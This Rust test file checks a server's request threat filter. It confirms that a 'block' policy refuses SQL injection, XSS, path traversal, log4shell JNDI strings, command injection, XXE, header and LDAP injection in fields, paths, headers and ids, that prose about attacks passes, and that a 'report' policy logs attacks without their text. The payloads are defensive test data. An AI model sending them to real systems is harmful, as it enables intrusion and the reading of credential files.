//! Attacks in requests: what is refused where the settings say so, what is only recorded, and what is no attack at all.

use std::time::Duration;

use serde_json::{Value, json};

use crate::harness::{Server, message, state};

const V1: (&str, &str) = ("A2A-Version", "1.0");

fn server(policy: &str) -> Server {
    Server::with(&[("A2A_AGENTS", "conformance"), ("A2A_THREATS", policy)])
}

/// Messages with an attack in one field that names something: the field, the kind, the parameters.
fn attacks() -> Vec<(&'static str, &'static str, Value)> {
    let mut cases = Vec::new();
    let mut case = |field, kind, change: &dyn Fn(&mut Value)| {
        let mut params = message("tck-1", "A perfectly ordinary question");
        change(&mut params);
        cases.push((field, kind, params));
    };
    case("message.messageId", "SQL injection", &|params| params["message"]["messageId"] = json!("tck-1' or 1=1--"));
    case("message.contextId", "cross-site scripting", &|params| params["message"]["contextId"] = json!("%3Cscript%3Ealert(1)%3C/script%3E"));
    case("message.metadata.source", "path traversal", &|params| params["message"]["metadata"] = json!({"source": "..%2f..%2fetc/passwd"}));
    case("message.metadata.a", "log4shell", &|params| params["message"]["metadata"] = json!({"a": [{"b": "${${lower:j}ndi:ldap://e.test}"}]}));
    case("message.metadata", "command injection", &|params| params["message"]["metadata"] = json!({"; cat /etc/passwd": 1}));
    case("metadata.title", "template injection", &|params| params["metadata"] = json!({"title": "{{7*7}}"}));
    case("message.parts[0].filename", "path traversal", &|params| params["message"]["parts"][0]["filename"] = json!("../../x"));
    case("message.parts[0].mediaType", "header injection", &|params| {
        params["message"]["parts"][0]["mediaType"] = json!("text/plain\r\nSet-Cookie: a=b");
    });
    case("message.parts[0].metadata.x", "XML external entity", &|params| {
        params["message"]["parts"][0]["metadata"] = json!({"x": "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///x\">]>"});
    });
    case("message.referenceTaskIds", "LDAP injection", &|params| params["message"]["referenceTaskIds"] = json!(["*)(uid=*))(|(uid=*"]));
    cases
}

#[tokio::test]
async fn an_attack_in_a_field_that_names_something_is_refused_by_field_and_kind() {
    let mut server = server("block");
    for (field, kind, params) in attacks() {
        let error = server.v1("SendMessage", params.clone()).await["error"].clone();
        assert_eq!(error["code"], -32602, "{field}: {error}");
        assert!(error["message"].as_str().is_some_and(|text| text.contains(field) && text.contains(kind)), "{field}, {kind}: {error}");
        let rest = server.rest("/message:send", &params).await;
        assert_eq!((rest.status, rest.text.contains(field)), (400, true), "{field}: {}", rest.text);
    }
    assert!(server.lives());
}

#[tokio::test]
async fn attacks_in_paths_queries_headers_methods_and_ids_are_refused() {
    let server = server("block");
    for (path, headers) in [
        ("/tasks/1%27%20or%201=1--", vec![V1]),
        ("/tasks?pageToken=%3Csvg%20onload=alert(1)%3E", vec![V1]),
        ("/tasks/x", vec![V1, ("User-Agent", "${jndi:ldap://e.test/a}")]),
        ("/agents", vec![("Referer", "' union select 1,2 from users--")]),
        ("/.well-known/agent-card.json?x=../../etc/passwd", vec![]),
    ] {
        let answered = server.get(path, &headers).await;
        assert_eq!(answered.status, 400, "{path}: {}", answered.text);
        assert!(answered.text.contains("which is refused here"), "{path}: {}", answered.text);
    }
    for (request, field) in [
        (json!({"jsonrpc": "2.0", "id": "1; cat /etc/passwd", "method": "GetTask", "params": {"id": "x"}}), "id"),
        (json!({"jsonrpc": "2.0", "id": 1, "method": "<script>alert(1)</script>", "params": {}}), "method"),
    ] {
        let response = server.post("/", &[V1], request.to_string()).await.json();
        assert_eq!((&response["id"], &response["error"]["code"]), (&request["id"], &json!(-32602)), "{response}");
        assert!(response["error"]["message"].as_str().is_some_and(|text| text.contains(&format!("{field}: looks like"))), "{response}");
    }
}

#[tokio::test]
async fn older_clients_are_told_in_their_own_words() {
    let server = server("block");
    let part = json!({"kind": "file", "file": {"uri": "file:///etc/passwd"}});
    let params = json!({"message": {"kind": "message", "messageId": "tck-1", "role": "user", "parts": [part]}});
    let error = server.rpc(&[], "message/send", params).await["error"].clone();
    assert_eq!(
        (&error["code"], error["message"].as_str().is_some_and(|text| text.contains("message.parts[0].file.uri"))),
        (&json!(-32602), true),
        "{error}"
    );
    let params = json!({"id": "tck-2", "sessionId": "' or '1'='1", "message": {"role": "user", "parts": [{"type": "text", "text": "x"}]}});
    let error = server.rpc(&[], "tasks/send", params).await["error"].clone();
    assert_eq!((&error["code"], &error["data"]["fieldViolations"][0]["field"]), (&json!(-32602), &json!("sessionId")), "{error}");
}

#[tokio::test]
async fn prose_about_attacks_passes_where_attacks_are_refused() {
    let server = server("block");
    for text in [
        "Why is ' OR 1=1 -- dangerous in a login form?",
        "Create a report on public health (2024) for AT&T and O'Reilly",
        "What does SELECT * FROM users WHERE name = 'x' OR 1=1 return?",
        "SELECT name FROM people WHERE age > 30;",
        "Is <script>alert(1)</script> run when it is set as innerHTML?",
        "How was ${jndi:ldap://host/a} used against log4j, and does ../../etc/passwd still work?",
    ] {
        let mut params = message("tck-1", text);
        params["message"]["metadata"] = json!({"title": "O'Reilly & Sons (2024)", "query": "public health; Create a report"});
        params["message"]["messageId"] = json!(format!("tck-{}", text.len()));
        let response = server.v1("SendMessage", params).await;
        assert_eq!(state(&response["result"]), "TASK_STATE_COMPLETED", "{text}: {response}");
    }
}

#[tokio::test]
async fn where_attacks_are_reported_they_pass_and_are_recorded_without_their_words() {
    let server = server("report");
    let mut params = message("tck-1", "x");
    params["message"]["metadata"] = json!({"q": "' union select 1,secret from users--"});
    let response = server.v1("SendMessage", params).await;
    assert_eq!(state(&response["result"]), "TASK_STATE_COMPLETED", "{response}");
    let record = recorded(&server).await;
    assert!(record.contains("SQL injection") && record.contains("message.metadata.q") && record.contains("report"), "{record}");
    assert!(!record.contains("union select"), "{record}");
}

#[tokio::test]
async fn where_the_search_is_off_nothing_is_refused() {
    let server = server("off");
    let mut params = message("tck-1", "x");
    params["message"]["metadata"] = json!({"q": "<script>alert(1)</script>"});
    assert_eq!(state(&server.v1("SendMessage", params).await["result"]), "TASK_STATE_COMPLETED");
}

/// The line of the log that tells of a threat; logs are written a little behind.
async fn recorded(server: &Server) -> String {
    for _ in 0..100 {
        if let Some(line) = server.log().lines().find(|line| line.contains("a2a::threat")) {
            return line.to_owned();
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("no threat in {}", server.log());
}
